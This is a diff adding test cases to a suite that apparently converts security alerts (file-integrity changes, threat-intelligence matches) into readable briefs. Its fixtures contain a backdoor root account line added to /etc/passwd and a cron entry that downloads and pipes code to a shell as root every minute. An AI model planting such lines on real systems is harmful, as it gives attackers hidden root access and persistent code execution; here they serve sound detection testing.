@@ -88,6 +88,33 @@ describe('brief 0 says what acted on what', () => {
       'Ask ann for the ticket; without one, take the account «Bo Ek» out again',
     )
   })
+  it('the line that a change added', () => {
+    const claims = claimsOf({
+      rule: ['550', 7, 'Integrity checksum changed.', ['ossec', 'syscheck']],
+      syscheck: { path: '/etc/passwd', event: 'modified', diff: '34a35\n> toor:x:0:0::/root:/bin/bash' },
+    })
+    expect(claims.join('\n')).toContain('«/etc/passwd» with «> toor:x:0:0::/root:/bin/bash»')
+  })
+  it('a line that would run something did not run yet', () => {
+    const { headline } = briefOf({
+      rule: ['554', 5, 'File added to the system.', ['ossec', 'syscheck']],
+      syscheck: {
+        path: '/etc/cron.d/x',
+        event: 'added',
+        diff: '* * * * * root curl -s http://192.0.2.9/m|sh',
+      },
+    })
+    expect(headline).toContain('A file was changed so that it fetches and runs code')
+    expect(headline).not.toContain('downloaded')
+  })
+  it('a value that threat intelligence knows', () => {
+    const brief = briefOf({
+      rule: ['100622', 12, 'MISP - IoC found', ['misp', 'misp_alert']],
+      data: { misp: { value: 'away.example', category: 'Network activity' } },
+    })
+    expect(brief.headline).toBe('A value that threat intelligence knows was seen: web-01, 1 alert')
+    expect(brief.nextSteps).toHaveLength(2)
+  })
   it('both ends of a connection', () => {
     const brief = briefOf({
       rule: ['86601', 3, 'Suricata: Alert - ET MALWARE beacon', ['ids', 'suricata']],
